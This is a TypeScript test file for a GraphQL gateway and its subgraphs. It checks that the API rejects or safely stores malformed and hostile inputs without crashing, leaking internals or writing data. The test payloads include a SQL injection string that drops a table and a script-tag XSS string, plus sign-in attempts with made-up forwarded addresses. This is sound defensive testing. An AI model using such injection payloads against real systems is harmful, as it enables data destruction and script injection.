import { createHash, generateKeyPairSync, randomUUID } from 'node:crypto';
import { parse } from 'csv-parse/sync';
import jwt from 'jsonwebtoken';
import { PROVINCES, seededUserId, type ProvinceKey } from '../../shared/src';
import { DEFAULT_MAX_OPEN_BOOKINGS_PER_PERSON } from '../../subgraphs/province/src';
import { DEMO_SEEDS } from '../support/demoData';
import {
  SlotAllocator, auditCount, book, closePools, createInstrument, createLab, issueCard, localIdOf, localTime, rowState, rowsMarked, sql,
} from '../support/registryFixtures';
import { chargeFor } from '../support/chargeFixtures';
import { leaksIn, sendRaw, type RawRequest } from '../support/rawHttp';
import { issueVoucher } from '../support/voucherFixtures';
import { asGateway, gateway, testSystem, tokenFor } from '../support/system';
import { createUser } from '../support/throwawayIdentities';

/*
 * Issue #4, hostile and malformed requests, kept as a table. For every case:
 * no crash and no 5xx, a JSON answer whose first error has the expected
 * `extensions.code` (or, for hostile text that is valid input, an answer that
 * stores it verbatim or finds nothing), no stack trace, SQL, source path or
 * internal address in the answer, and for write attempts nothing written.
 * Known defects run as `it.failing` until they are fixed; the operation
 * limits (depth, aliases, cost, batch and body size) come last.
 */

type Who = 'li.wei' | 'chen.jing' | 'sc.admin' | 'cq.admin' | 'platform.admin';
type Target = 'gateway' | 'platform' | ProvinceKey;

interface Operation {
  readonly query?: unknown;
  readonly variables?: unknown;
  readonly operationName?: unknown;
  readonly extensions?: unknown;
  /** Extra headers (e.g. a made-up x-forwarded-for for sign-in attempts). */
  readonly headers?: Record<string, string>;
}

type RequestSpec = { readonly raw: RawRequest } | { readonly op: Operation };

interface Refusal {
  readonly status: number | readonly number[];
  readonly code: string | readonly string[];
  /** Facts the first error must carry besides its code (e.g. which limit it names). */
  readonly extensions?: Readonly<Record<string, unknown>>;
}
/** Valid-but-hostile input: the answer must have no error and pass this check. */
interface Accepted {
  readonly ok: (data: any) => void | Promise<void>;
}

interface Case {
  readonly name: string;
  /** Where it is sent; default the gateway only. */
  readonly targets?: readonly Target[];
  readonly as?: Who;
  readonly request: (marker: string) => RequestSpec | Promise<RequestSpec>;
  readonly expect: Refusal | Accepted;
  /** When a subgraph answers differently from the gateway, by design. */
  readonly direct?: Refusal | Accepted;
  /** A write attempt: nothing may be written (rows carrying the marker, the fixtures, their audit). */
  readonly guard?: boolean;
  /** The guard also covers the recognition catalogues (only inside the catalogue group, which holds them). */
  readonly catalogue?: boolean;
  /** A known defect, by target: the case runs as it.failing with this note until it is fixed. */
  readonly defect?: string | Partial<Record<Target, string>>;
}

// ---------- shorthands ----------

const refused = (code: string | readonly string[], status: number | readonly number[] = 200): Refusal => ({ code, status });
const BAD_USER_INPUT = refused('BAD_USER_INPUT');
const NOT_FOUND = refused('NOT_FOUND');
const CONFLICT = refused('CONFLICT');
const UNAUTHENTICATED = refused('UNAUTHENTICATED');
const BAD_REQUEST = refused('BAD_REQUEST', 400);
const PARSE_FAILED = refused('GRAPHQL_PARSE_FAILED', 400);
const VALIDATION_FAILED = refused('GRAPHQL_VALIDATION_FAILED', 400);
const BAD_VARIABLE = refused('BAD_USER_INPUT', 400);
const INVALID_TOKEN = refused('UNAUTHENTICATED', 401);
/** What a limit refusal may be coded as while the gateway's limits settle. */
const LIMIT = refused(['GRAPHQL_VALIDATION_FAILED', 'GRAPHQL_PARSE_FAILED', 'BAD_REQUEST'], 400);

const op = (query: string, variables?: Record<string, unknown>, extra: Omit<Operation, 'query' | 'variables'> = {}): RequestSpec => ({ op: { query, variables, ...extra } });
const json = (body: string, headers: Record<string, string> = {}, method = 'POST'): { readonly raw: RawRequest } => ({
  raw: { method, headers: { 'content-type': 'application/json', ...headers }, body },
});
const BOTH: readonly Target[] = ['gateway', 'sichuan'];
const TYPENAME = JSON.stringify({ query: '{ __typename }' });

const daysFromNow = (days: number) => new Date(Date.now() + days * 86_400_000).toISOString();
const scId = (kind: string, id: string = randomUUID()) => `sc:${kind}:${id}`;
const cqId = (kind: string, id: string = randomUUID()) => `cq:${kind}:${id}`;
/** A made-up client address per sign-in attempt, so failed attempts never count against the test runner's own. */
const someAddress = () => `198.51.100.${1 + Math.floor(Math.random() * 254)}`;
const cursor = (value: unknown) => Buffer.from(typeof value === 'string' ? value : JSON.stringify(value)).toString('base64url');

// ---------- fixtures ----------

interface Fixtures {
  tokens: Record<Who, string>;
  scInstrument: string;
  cqInstrument: string;
  /** A joint lab of Sichuan with Chongqing, holding no instruments. */
  scLab: string;
  cqLab: string;
  scCard: { id: string; cardNumber: string };
  /** A platform account the cards of validCard are issued to: an id the platform does not know is refused first. */
  cardHolder: string;
  /** Requested by chen.jing on scInstrument; li.wei's on cqInstrument. */
  scBooking: string;
  cqBooking: string;
  scSlots: SlotAllocator;
  cqSlots: SlotAllocator;
}
const fx = {} as Fixtures;

beforeAll(async () => {
  const who: Who[] = ['li.wei', 'chen.jing', 'sc.admin', 'cq.admin', 'platform.admin'];
  fx.tokens = Object.fromEntries(await Promise.all(who.map(async (name) => [name, await tokenFor(name)] as const))) as Record<Who, string>;
  fx.scInstrument = await createInstrument('sichuan', { name: `Bad input fixture ${randomUUID().slice(0, 8)}` });
  fx.cqInstrument = await createInstrument('chongqing', { name: `Bad input fixture ${randomUUID().slice(0, 8)}` });
  fx.scLab = await createLab('sichuan', { partnerProvince: 'CHONGQING', partnerInstitutions: ['Chongqing University'] });
  fx.cqLab = await createLab('chongqing');
  fx.scCard = await issueCard('sichuan');
  fx.cardHolder = (await createUser('bad.input.holder')).id;
  fx.scSlots = new SlotAllocator(60);
  fx.cqSlots = new SlotAllocator(70);
  fx.scBooking = await book('sichuan', fx.tokens['chen.jing'], fx.scInstrument, fx.scSlots.take());
  fx.cqBooking = await book('chongqing', fx.tokens['li.wei'], fx.cqInstrument, fx.cqSlots.take());
}, 60_000);

afterAll(async () => {
  await closePools();
});

// ---------- fixtures of the service, charge, voucher and webhook areas ----------

interface ServiceFixtures {
  /** Sample testing on a Sichuan instrument, its form asking organism (TEXT), concentration (NUMBER) and, optionally, collectedOn (DATE). */
  scOffering: string;
  cqOffering: string;
  /** chen.jing's, submitted. */
  scRequest: string;
  /** Sichuan charges of 40 000 fen, chen.jing's; a Chongqing one of li.wei's. */
  scCharge: string;
  cqCharge: string;
  /** Issued to chen.jing, each accepted in both provinces. */
  cqVoucher: string;
  scVoucher: string;
  /** demo-partner's subscription to Sichuan's booking events. */
  scSubscription: string;
}
const sx = {} as ServiceFixtures;

/** A GraphQL call that must succeed: fixtures and the first half of two-step cases. */
async function must(query: string, token: string | undefined, variables: Record<string, unknown> = {}): Promise<any> {
  const { body } = await gateway(query, { token, variables });
  if (body.errors) throw new Error(JSON.stringify(body.errors));
  return body.data;
}

const SC_STANDARD = ['OWN_PROVINCE_ACADEMIC', 'OTHER_PROVINCE_ACADEMIC', 'ENTERPRISE', 'INTERNAL'].map((category) => ({ category, amountFen: 80_000 }));
const CREATE_OFFERING = 'mutation($input: OfferingInput!) { result: createSichuanOffering(input: $input) { id name nameZh requirements sampleForm { name label } prices { band amountFen } } }';
const validOffering = (marker: string) => ({
  instrumentId: fx.scInstrument, kind: 'SAMPLE_TESTING', name: `Bad input offering ${marker}`, nameZh: '测试服务', turnaroundDays: 10,
  requirements: `Marker ${marker}`,
  sampleForm: [
    { name: 'organism', label: 'Organism', type: 'TEXT' },
    { name: 'concentration', label: 'Concentration', type: 'NUMBER' },
    { name: 'collectedOn', label: 'Collected on', type: 'DATE', required: false },
  ],
  prices: SC_STANDARD,
});
const SUBMIT = 'mutation($input: ServiceRequestInput!) { result: submitSichuanServiceRequest(input: $input) { id description formValues { name value } } }';
const validRequest = (marker: string) => ({
  offeringId: sx.scOffering,
  formValues: [{ name: 'organism', value: 'Oryza sativa' }, { name: 'concentration', value: '52.5' }],
  sampleCount: 3, neededBy: daysFromNow(30), description: `Bad input request ${marker}`, idempotencyKey: `key-${marker}`,
});
const PDF = Buffer.from('%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n').toString('base64');
const validReport = (marker: string) => ({ fileName: `report-${marker}.pdf`, contentType: 'application/pdf', contentBase64: PDF });
const QUOTE = 'mutation($id: ID!, $a: Int!, $u: DateTime!, $n: String) { result: quoteSichuanServiceRequest(id: $id, amountFen: $a, validUntil: $u, note: $n) { id } }';
const ISSUE_REPORT = 'mutation($id: ID!, $r: ServiceReportInput!) { result: issueSichuanServiceReport(id: $id, report: $r) { id report { fileName } } }';

type RequestStage = 'SUBMITTED' | 'QUOTED' | 'ACCEPTED' | 'IN_PROGRESS';
/** A service request of chen.jing's of its own for one case, taken through the workflow to `stage`. */
async function requestAt(stage: RequestStage): Promise<string> {
  const marker = randomUUID().slice(0, 8);
  const id = (await must(SUBMIT, fx.tokens['chen.jing'], { input: validRequest(marker) })).result.id as string;
  const steps: [RequestStage, string, Who, Record<string, unknown>][] = [
    ['QUOTED', QUOTE, 'sc.admin', { a: 500_000, u: daysFromNow(20) }],
    ['ACCEPTED', 'mutation($id: ID!) { acceptSichuanServiceQuote(id: $id) { id } }', 'chen.jing', {}],
    ['IN_PROGRESS', 'mutation($id: ID!) { receiveSichuanSamples(id: $id) { id } }', 'sc.admin', {}],
    ['IN_PROGRESS', 'mutation($id: ID!) { startSichuanServiceRequest(id: $id) { id } }', 'sc.admin', {}],
  ];
  const order: RequestStage[] = ['SUBMITTED', 'QUOTED', 'ACCEPTED', 'IN_PROGRESS'];
  for (const [reached, query, who, variables] of steps) {
    if (order.indexOf(reached) > order.indexOf(stage)) break;
    await must(query, fx.tokens[who], { id, ...variables });
  }
  return id;
}

const SUBSCRIBE = 'mutation($input: WebhookSubscriptionInput!) { result: createSichuanWebhookSubscription(input: $input) { subscription { id description } } }';
const validSubscription = (marker: string) => ({ clientId: 'demo-partner', url: `http://127.0.0.1:9/hooks/${marker}`, eventTypes: ['booking.confirmed'], description: `Marker ${marker}` });

beforeAll(async () => {
  const url = testSystem().gatewayUrl;
  sx.scOffering = (await must(CREATE_OFFERING, fx.tokens['sc.admin'], { input: validOffering(randomUUID().slice(0, 8)) })).result.id;
  sx.cqOffering = (await must('{ chongqing { offerings { id } } }', undefined)).chongqing.offerings[0].id;
  sx.scRequest = await requestAt('SUBMITTED');
  sx.scCharge = await chargeFor(sql, 'sichuan', 40_000, 'chen.jing');
  sx.cqCharge = await chargeFor(sql, 'chongqing', 40_000, 'li.wei');
  sx.cqVoucher = await issueVoucher(url, tokenFor, 'chongqing', { holder: 'chen.jing' });
  sx.scVoucher = await issueVoucher(url, tokenFor, 'sichuan', { holder: 'chen.jing' });
  sx.scSubscription = (await must(SUBSCRIBE, fx.tokens['sc.admin'], { input: validSubscription(randomUUID().slice(0, 8)) })).result.subscription.id;
}, 60_000);

/** Everything a refused write could have touched: rows carrying its marker, and every fixture with its audit trail. */
async function writeState(marker: string, catalogue: boolean) {
  const fixtureRows = {
    scInstrument: await rowState('sichuan', 'instruments', localIdOf(fx.scInstrument)),
    cqInstrument: await rowState('chongqing', 'instruments', localIdOf(fx.cqInstrument)),
    scLab: await rowState('sichuan', 'labs', localIdOf(fx.scLab)),
    cqLab: await rowState('chongqing', 'labs', localIdOf(fx.cqLab)),
    scCard: await rowState('sichuan', 'talent_cards', localIdOf(fx.scCard.id)),
    scBooking: await rowState('sichuan', 'bookings', localIdOf(fx.scBooking)),
    cqBooking: await rowState('chongqing', 'bookings', localIdOf(fx.cqBooking)),
  };
  const audit = {
    sichuan: await Promise.all([fx.scInstrument, fx.scLab, fx.scCard.id, fx.scBooking].map((id) => auditCount('sichuan', id))),
    chongqing: await Promise.all([fx.cqInstrument, fx.cqLab, fx.cqBooking].map((id) => auditCount('chongqing', id))),
  };
  const bookingsOn = {
    sichuan: (await sql('sichuan', 'SELECT count(*)::int AS n FROM bookings WHERE instrument_id = $1', [localIdOf(fx.scInstrument)]))[0]!['n'],
    chongqing: (await sql('chongqing', 'SELECT count(*)::int AS n FROM bookings WHERE instrument_id = $1', [localIdOf(fx.cqInstrument)]))[0]!['n'],
  };
  return {
    marked: { sichuan: await rowsMarked('sichuan', marker), chongqing: await rowsMarked('chongqing', marker) },
    fixtureRows,
    audit,
    bookingsOn,
    ledgers: { sichuan: await ledgerDigests('sichuan'), chongqing: await ledgerDigests('chongqing') },
    ...(catalogue ? { catalogue: { sichuan: await catalogueDigest('sichuan'), chongqing: await catalogueDigest('chongqing') } } : {}),
  };
}

/** Offerings, service requests, charges, vouchers and webhooks: a refused write leaves every row of them as it was. */
const LEDGER_TABLES = [
  'offerings', 'offering_prices', 'service_requests', 'service_request_events', 'service_reports', 'charges', 'charge_lines',
  'vouchers', 'voucher_events', 'voucher_holds', 'voucher_redemptions', 'webhook_subscriptions',
] as const;
const ledgerDigests = async (province: ProvinceKey) =>
  Object.fromEntries(await Promise.all(LEDGER_TABLES.map(async (table) =>
    [table, (await sql(province, `SELECT count(*)::int AS n, md5(coalesce(string_agg(t::text, '|' ORDER BY t::text), '')) AS d FROM ${table} t`))[0]] as const)));

const catalogueDigest = async (province: ProvinceKey) =>
  (await sql(province, "SELECT md5(coalesce(string_agg(row_to_json(t)::text, '|' ORDER BY code), '')) AS d FROM recognition_catalog t"))[0]!['d'];

// ---------- running a case ----------

const PAYLOADS = {
  'SQL text': "'); DROP TABLE instruments; --",
  'script text': '<script>alert(1)</script>',
  'a NUL character': 'ab\u0000cd',
} as const;
type PayloadName = keyof typeof PAYLOADS;

const urlOf = (target: Target) => (target === 'gateway' ? testSystem().gatewayUrl : testSystem().subgraphUrls[target]);

function toRaw(spec: RequestSpec, token: string | undefined): RawRequest {
  if ('raw' in spec) {
    return token ? { ...spec.raw, headers: { authorization: `Bearer ${token}`, ...spec.raw.headers } } : spec.raw;
  }
  const { headers, ...body } = spec.op;
  return {
    method: 'POST',
    headers: { 'content-type': 'application/json', ...(token ? { authorization: `Bearer ${token}` } : {}), ...headers },
    body: JSON.stringify(body),
  };
}

const oneOf = <T>(value: T, allowed: T | readonly T[]) => {
  const list = ([] as T[]).concat(allowed as T | T[]);
  return list.includes(value) ? value : list.join(' or ');
};

async function runCase(testCase: Case, target: Target): Promise<void> {
  const marker = `bi${randomUUID().replace(/-/g, '').slice(0, 12)}`;
  const spec = await testCase.request(marker);
  const before = testCase.guard ? await writeState(marker, !!testCase.catalogue) : undefined;
  const response = await sendRaw(urlOf(target), toRaw(spec, testCase.as ? fx.tokens[testCase.as] : undefined));

  const errors: { message?: string; extensions?: { code?: string } }[] = Array.isArray(response.json?.errors) ? response.json.errors : [];
  const sent = 'op' in spec ? JSON.stringify(spec.op.variables ?? null) : '';
  const seen = {
    status: response.status,
    json: response.json !== undefined && /json/.test(response.contentType),
    code: errors[0]?.extensions?.code ?? (errors.length ? 'an error without a code' : 'no error'),
    internalErrors: errors.filter((error) => error.extensions?.code === 'INTERNAL_SERVER_ERROR').length,
    leaks: leaksIn(response.text, [...Object.values(PAYLOADS), ...(sent.length < 2000 ? [sent] : [])]),
  };
  const want = target !== 'gateway' && testCase.direct ? testCase.direct : testCase.expect;
  const wanted = 'ok' in want
    ? { status: 200, json: true, code: 'no error', internalErrors: 0, leaks: [] }
    : { status: oneOf(seen.status, want.status), json: true, code: oneOf(seen.code, want.code), internalErrors: 0, leaks: [] };
  expect(seen.status).toBeLessThan(500);
  expect(JSON.stringify(seen) === JSON.stringify(wanted) ? seen : { ...seen, said: response.text.slice(0, 500) }).toEqual(wanted);
  if ('ok' in want) await want.ok(response.json.data);
  else if (want.extensions) expect(errors[0]?.extensions).toMatchObject(want.extensions);
  if (before) expect(await writeState(marker, !!testCase.catalogue)).toEqual(before);
}

let caseCount = 0;

/** Declares each case as one test per target; a known defect runs as it.failing. */
function cases(list: readonly Case[]): void {
  for (const testCase of list) {
    const targets = testCase.targets ?? ['gateway'];
    for (const target of targets) {
      const defect = typeof testCase.defect === 'string' ? testCase.defect : testCase.defect?.[target];
      const title = `${testCase.name}${targets.length > 1 || target !== 'gateway' ? ` [${target}]` : ''}${defect ? ` — KNOWN DEFECT: ${defect}` : ''}`;
      caseCount++;
      (defect ? it.failing : it)(title, () => runCase(testCase, target), 60_000);
    }
  }
}

// ---------- hostile text in every string input ----------

/** What happens to hostile text in one input: refused, not found, or stored exactly as sent / finding nothing. */
type Verdict = 'BAD_USER_INPUT' | 'NOT_FOUND' | 'UNAUTHENTICATED' | 'stored' | 'nothing';

interface StringInput {
  readonly input: string;
  readonly as?: Who;
  readonly targets?: readonly Target[];
  /** For SQL text, script text and a NUL character. */
  readonly verdicts: readonly [Verdict, Verdict, Verdict];
  readonly request: (value: string, marker: string) => Operation | Promise<Operation>;
  /** For 'stored': the value as answered and as the database holds it. */
  readonly stored?: (data: any) => Promise<[unknown, unknown]>;
  /** For 'nothing': that the answer found nothing. */
  readonly nothing?: (data: any) => void;
  readonly write?: boolean;
  readonly catalogue?: boolean;
  readonly defect?: Partial<Record<PayloadName, string>> & { gateway?: string };
  /** HTTP statuses a refusal may come with (a variable a subgraph cannot coerce is refused with 400). */
  readonly status?: readonly number[];
}

function hostileText(inputs: readonly StringInput[]): Case[] {
  return inputs.flatMap((input) =>
    (Object.keys(PAYLOADS) as PayloadName[]).map((payload, index): Case => {
      const value = PAYLOADS[payload];
      const verdict = input.verdicts[index]!;
      const expectation: Refusal | Accepted =
        verdict === 'stored'
          ? { ok: async (data) => expect(await input.stored!(data)).toEqual([value, value]) }
          : verdict === 'nothing'
            ? { ok: (data) => input.nothing!(data) }
            : refused(verdict, input.status ?? 200);
      const defect = input.defect?.[payload] ?? (input.defect?.gateway ? { gateway: input.defect.gateway } : undefined);
      return {
        name: `${input.input} with ${payload}`,
        targets: input.targets,
        as: input.as,
        request: async (marker) => ({ op: await input.request(value, marker) }),
        expect: expectation,
        guard: input.write && verdict !== 'stored',
        catalogue: input.catalogue,
        defect,
      };
    }),
  );
}

const B: Verdict = 'BAD_USER_INPUT';
const REFUSED: readonly [Verdict, Verdict, Verdict] = [B, B, B];
const STORED: readonly [Verdict, Verdict, Verdict] = ['stored', 'stored', B];

/** The stored column of a row, by the global id the answer gave. */
const column = async (province: ProvinceKey, table: string, name: string, globalId: string) =>
  (await sql(province, `SELECT ${name} AS v FROM ${table} WHERE id = $1`, [localIdOf(globalId)]))[0]?.['v'];

const lastNote = async (bookingId: string) =>
  (await sql('sichuan', 'SELECT note AS v FROM booking_events WHERE booking_id = $1 ORDER BY id DESC LIMIT 1', [localIdOf(bookingId)]))[0]?.['v'];

const validInstrument = (marker: string) => ({
  assetCode: `BI-${marker}`, name: `Bad input ${marker}`, nameZh: '测试仪器', category: 'NMR', institution: 'Test Institute',
  hourlyFee: 10, services: ['TESTING'], openFromHour: 9, openToHour: 17, description: `Marker ${marker}`,
});
const CREATE_INSTRUMENT = 'mutation($input: InstrumentInput!) { result: createSichuanInstrument(input: $input) { id name nameZh model manufacturer institution location description } }';
const validLab = (marker: string) => ({ name: `Bad input lab ${marker}`, nameZh: '测试实验室', institution: 'Test Institute', city: 'Chengdu', level: 'PROVINCIAL', description: `Marker ${marker}` });
const CREATE_LAB = 'mutation($input: LabInput!) { result: createSichuanLab(input: $input) { id name nameZh institution city description partnerInstitutions } }';
const validCard = (marker: string) => ({ holderName: `Holder ${marker}`, holderUserId: fx.cardHolder, tier: 'C', validUntil: daysFromNow(400), field: `Marker ${marker}` });
const ISSUE = 'mutation($input: IssueTalentCardInput!) { result: issueSichuanTalentCard(input: $input) { id holderName field employer } }';
const BOOK = 'mutation($i: ID!, $s: DateTime!, $e: DateTime!, $p: String!, $k: String!) { result: bookSichuanInstrument(instrumentId: $i, start: $s, end: $e, purpose: $p, idempotencyKey: $k) { id purpose } }';
const validBooking = (marker: string) => {
  const slot = fx.scSlots.take();
  return { i: fx.scInstrument, s: slot.start, e: slot.end, p: `Bad input check ${marker}`, k: `key-${marker}` };
};
const STATS = 'query($from: DateTime, $to: DateTime) { sichuan { stats(from: $from, to: $to) { labs } } }';
const AVAILABILITY = 'query($id: ID!, $from: DateTime!, $to: DateTime!) { sichuan { instrument(id: $id) { availability(from: $from, to: $to) { start } } } }';

/** A booking of its own for one case, by chen.jing; `ended` makes it confirmed and over, ready to complete. */
async function freshBooking(ended = false): Promise<string> {
  const id = await book('sichuan', fx.tokens['chen.jing'], fx.scInstrument, fx.scSlots.take());
  if (!ended) return id;
  const { body } = await gateway('mutation($id: ID!) { confirmSichuanBooking(bookingId: $id) { id } }', { token: fx.tokens['sc.admin'], variables: { id } });
  if (body.errors) throw new Error(JSON.stringify(body.errors));
  await sql('sichuan', "UPDATE bookings SET starts_at = starts_at - interval '400 days', ends_at = ends_at - interval '400 days' WHERE id = $1", [localIdOf(id)]);
  return id;
}

const READ_INPUTS: StringInput[] = [
  { input: 'sichuan.instrument(id)', verdicts: REFUSED, request: (v) => ({ query: 'query($v: ID!) { sichuan { instrument(id: $v) { id } } }', variables: { v } }) },
  { input: 'sichuan.lab(id)', verdicts: REFUSED, request: (v) => ({ query: 'query($v: ID!) { sichuan { lab(id: $v) { id } } }', variables: { v } }) },
  { input: 'sichuan.booking(id)', as: 'li.wei', verdicts: REFUSED, request: (v) => ({ query: 'query($v: ID!) { sichuan { booking(id: $v) { id } } }', variables: { v } }) },
  {
    input: 'sichuan.talentCard(cardNumber)',
    as: 'li.wei',
    verdicts: ['nothing', 'nothing', B],
    request: (v) => ({ query: 'query($v: String!) { sichuan { talentCard(cardNumber: $v) { id } } }', variables: { v } }),
    nothing: (data) => expect(data.sichuan.talentCard).toBeNull(),
  },
  {
    input: 'sichuan.instruments(filter.keyword)',
    verdicts: ['nothing', 'nothing', B],
    request: (v) => ({ query: 'query($v: String) { sichuan { instruments(filter: { keyword: $v }) { totalCount edges { node { assetCode name nameZh model manufacturer institution } } } } }', variables: { v } }),
    // Matches are only what holds the text itself: other test files store such text verbatim in instruments they create.
    nothing: (data) => {
      const seeded = new Set(DEMO_SEEDS.sichuan.instruments.map((i) => i.code));
      expect(data.sichuan.instruments.edges.filter((e: any) => seeded.has(e.node.assetCode))).toEqual([]);
    },
  },
  { input: 'sichuan.instruments(filter.category)', verdicts: REFUSED, request: (v) => ({ query: 'query($v: String) { sichuan { instruments(filter: { category: $v }) { totalCount } } }', variables: { v } }) },
  { input: 'sichuan.instruments(filter.labId)', verdicts: REFUSED, request: (v) => ({ query: 'query($v: ID) { sichuan { instruments(filter: { labId: $v }) { totalCount } } }', variables: { v } }) },
  { input: 'sichuan.instruments(after)', verdicts: REFUSED, request: (v) => ({ query: 'query($v: String) { sichuan { instruments(after: $v) { totalCount } } }', variables: { v } }) },
  { input: 'sichuan.bookings(instrumentId)', as: 'sc.admin', verdicts: REFUSED, request: (v) => ({ query: 'query($v: ID) { sichuan { bookings(instrumentId: $v) { totalCount } } }', variables: { v } }) },
  { input: 'sichuan.bookings(after)', as: 'sc.admin', verdicts: REFUSED, request: (v) => ({ query: 'query($v: String) { sichuan { bookings(after: $v) { totalCount } } }', variables: { v } }) },
  {
    input: 'sichuan.auditLog(entityId)',
    as: 'sc.admin',
    verdicts: ['nothing', 'nothing', B],
    request: (v) => ({ query: 'query($v: ID) { sichuan { auditLog(entityId: $v) { edges { node { id } } } } }', variables: { v } }),
    nothing: (data) => expect(data.sichuan.auditLog.edges).toEqual([]),
  },
  { input: 'sichuan.auditLog(after)', as: 'sc.admin', verdicts: REFUSED, request: (v) => ({ query: 'query($v: String) { sichuan { auditLog(after: $v) { edges { node { id } } } } }', variables: { v } }) },
  { input: 'sichuan.stats(from)', targets: BOTH, verdicts: REFUSED, request: (v) => ({ query: STATS, variables: { from: v } }), status: [200, 400] },
  { input: 'sichuan.stats(to)', targets: BOTH, verdicts: REFUSED, request: (v) => ({ query: STATS, variables: { to: v } }), status: [200, 400] },
  {
    input: 'SichuanInstrument.availability(from)',
    targets: BOTH,
    verdicts: REFUSED,
    request: (v) => ({ query: AVAILABILITY, variables: { id: fx.scInstrument, from: v, to: daysFromNow(2) } }),
    status: [200, 400],
  },
  { input: 'instrument(id)', verdicts: REFUSED, request: (v) => ({ query: 'query($v: ID!) { instrument(id: $v) { id } }', variables: { v } }) },
  { input: 'lab(id)', verdicts: REFUSED, request: (v) => ({ query: 'query($v: ID!) { lab(id: $v) { id } }', variables: { v } }) },
  { input: 'talentCard(id)', as: 'li.wei', verdicts: REFUSED, request: (v) => ({ query: 'query($v: ID!) { talentCard(id: $v) { id } }', variables: { v } }) },
  { input: 'verifyTalentCard(cardNumber)', as: 'sc.admin', verdicts: REFUSED, request: (v) => ({ query: 'query($v: String!) { verifyTalentCard(cardNumber: $v) { status } }', variables: { v } }) },
];

const SIGN_IN_INPUTS: StringInput[] = [
  {
    input: 'login(username)',
    verdicts: ['UNAUTHENTICATED', 'UNAUTHENTICATED', B],
    request: (v) => ({ query: 'mutation($u: String!) { login(username: $u, password: "wrong-password") { token } }', variables: { u: v }, headers: { 'x-forwarded-for': someAddress() } }),
  },
  {
    input: 'login(password)',
    verdicts: ['UNAUTHENTICATED', 'UNAUTHENTICATED', 'UNAUTHENTICATED'],
    request: (v, marker) => ({ query: 'mutation($u: String!, $p: String!) { login(username: $u, password: $p) { token } }', variables: { u: `nobody-${marker}`, p: v }, headers: { 'x-forwarded-for': someAddress() } }),
  },
  {
    input: 'issueClientToken(clientId)',
    verdicts: ['UNAUTHENTICATED', 'UNAUTHENTICATED', B],
    request: (v) => ({ query: 'mutation($c: String!) { issueClientToken(clientId: $c, clientSecret: "wrong-secret") { token } }', variables: { c: v }, headers: { 'x-forwarded-for': someAddress() } }),
  },
  {
    input: 'issueClientToken(clientSecret)',
    verdicts: ['UNAUTHENTICATED', 'UNAUTHENTICATED', 'UNAUTHENTICATED'],
    request: (v, marker) => ({ query: 'mutation($c: String!, $s: String!) { issueClientToken(clientId: $c, clientSecret: $s) { token } }', variables: { c: `nobody-${marker}`, s: v }, headers: { 'x-forwarded-for': someAddress() } }),
  },
  {
    input: 'refreshSession(refreshToken)',
    verdicts: ['UNAUTHENTICATED', 'UNAUTHENTICATED', 'UNAUTHENTICATED'],
    request: (v) => ({ query: 'mutation($t: String!) { refreshSession(refreshToken: $t) { token } }', variables: { t: v } }),
  },
  {
    input: 'logout(refreshToken)',
    verdicts: ['nothing', 'nothing', 'nothing'],
    request: (v) => ({ query: 'mutation($t: String!) { logout(refreshToken: $t) }', variables: { t: v } }),
    nothing: (data) => expect(data.logout).toBe(false),
  },
  {
    input: 'revokeUserSessions(userId)',
    as: 'platform.admin',
    verdicts: REFUSED,
    request: (v) => ({ query: 'mutation($u: ID!) { revokeUserSessions(userId: $u) }', variables: { u: v } }),
  },
];

const BOOKING_INPUTS: StringInput[] = [
  { input: 'bookSichuanInstrument(instrumentId)', as: 'li.wei', write: true, verdicts: REFUSED, request: (v, m) => ({ query: BOOK, variables: { ...validBooking(m), i: v } }) },
  {
    input: 'bookSichuanInstrument(purpose)',
    as: 'li.wei',
    write: true,
    verdicts: STORED,
    request: (v, m) => ({ query: BOOK, variables: { ...validBooking(m), p: v } }),
    stored: async (data) => [data.result.purpose, await column('sichuan', 'bookings', 'purpose', data.result.id)],
  },
  { input: 'bookSichuanInstrument(idempotencyKey)', as: 'li.wei', write: true, verdicts: REFUSED, request: (v, m) => ({ query: BOOK, variables: { ...validBooking(m), k: v } }) },
  {
    input: 'bookSichuanInstrument(start)',
    as: 'li.wei',
    targets: BOTH,
    write: true,
    verdicts: REFUSED,
    request: (v, m) => ({ query: BOOK, variables: { ...validBooking(m), s: v } }),
    status: [200, 400],
  },
  { input: 'confirmSichuanBooking(bookingId)', as: 'sc.admin', write: true, verdicts: REFUSED, request: (v) => ({ query: 'mutation($id: ID!) { result: confirmSichuanBooking(bookingId: $id) { id } }', variables: { id: v } }) },
  ...(['confirm', 'reject', 'cancel', 'complete'] as const).map((action): StringInput => {
    const argument = action === 'reject' || action === 'cancel' ? 'reason' : 'note';
    return {
      input: `${action}SichuanBooking(${argument})`,
      as: action === 'cancel' ? 'chen.jing' : 'sc.admin',
      write: true,
      verdicts: STORED,
      request: async (v) => ({
        query: `mutation($id: ID!, $n: String${argument === 'reason' && action === 'reject' ? '!' : ''}) { result: ${action}SichuanBooking(bookingId: $id, ${argument}: $n) { id history { note } } }`,
        variables: { id: await freshBooking(action === 'complete'), n: v },
      }),
      stored: async (data) => [data.result.history.at(-1).note, await lastNote(data.result.id)],
    };
  }),
];

const CARD_INPUTS: StringInput[] = [
  ...(['holderName', 'field', 'employer'] as const).map((field): StringInput => ({
    input: `issueSichuanTalentCard(input.${field})`,
    as: 'sc.admin',
    write: true,
    verdicts: STORED,
    request: (v, m) => ({ query: ISSUE, variables: { input: { ...validCard(m), ...(field === 'field' ? { holderName: `Holder ${m}` } : {}), [field]: v } } }),
    stored: async (data) => [data.result[field], await column('sichuan', 'talent_cards', field === 'holderName' ? 'holder_name' : field, data.result.id)],
  })),
  { input: 'issueSichuanTalentCard(input.holderUserId)', as: 'sc.admin', write: true, verdicts: REFUSED, request: (v, m) => ({ query: ISSUE, variables: { input: { ...validCard(m), holderUserId: v } } }) },
  {
    input: 'issueSichuanTalentCard(input.validUntil)',
    as: 'sc.admin',
    targets: BOTH,
    write: true,
    verdicts: REFUSED,
    request: (v, m) => ({ query: ISSUE, variables: { input: { ...validCard(m), validUntil: v } } }),
    status: [200, 400],
  },
  {
    input: 'renewSichuanTalentCard(id)',
    as: 'sc.admin',
    write: true,
    verdicts: REFUSED,
    request: (v) => ({ query: 'mutation($id: ID!, $d: DateTime!) { renewSichuanTalentCard(id: $id, validUntil: $d) { id } }', variables: { id: v, d: daysFromNow(900) } }),
  },
